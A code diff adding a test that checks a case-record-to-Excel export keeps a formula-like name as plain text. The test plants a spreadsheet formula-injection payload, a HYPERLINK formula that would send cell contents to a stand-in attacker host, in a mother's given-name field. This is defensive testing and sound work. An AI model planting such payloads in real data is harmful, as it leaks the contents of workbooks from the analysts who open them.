@@ -210,3 +210,20 @@ def test_cases_to_xlsx_refuses_an_invalid_case_and_writes_nothing(ona, tmp_path)
     out = tmp_path / "out.xlsx"
     res = ona("cases-to-xlsx", "--in", bad, "--out", out, check=False)
     assert res.returncode == 1 and "line 1" in res.stderr and not out.exists()
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(ona, synth_cases, tmp_path):
+    # Attacker: someone who registers a case under a "name" that Excel would run as a formula
+    # (e.g. to send the sheet's contents to a web address when an analyst opens it).
+    case = json.loads(Path(synth_cases).read_text(encoding="utf-8").splitlines()[0])
+    case["mother"]["name"]["given"] = '=HYPERLINK("http://attacker.invalid/?"&B2,"click")'
+    src = tmp_path / "one.jsonl"
+    src.write_text(json.dumps(case, ensure_ascii=False) + "\n", encoding="utf-8")
+    book, back = tmp_path / "one.xlsx", tmp_path / "back.jsonl"
+    ona("cases-to-xlsx", "--in", src, "--out", book)
+    import zipfile
+    z = zipfile.ZipFile(book)
+    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
+    ona("import", "--mapping", MAPPINGS / "ona-workbook.toml", "--in", book, "--out", back)
+    assert read_jsonl(back)[0]["mother"]["name"]["given"] == case["mother"]["name"]["given"]
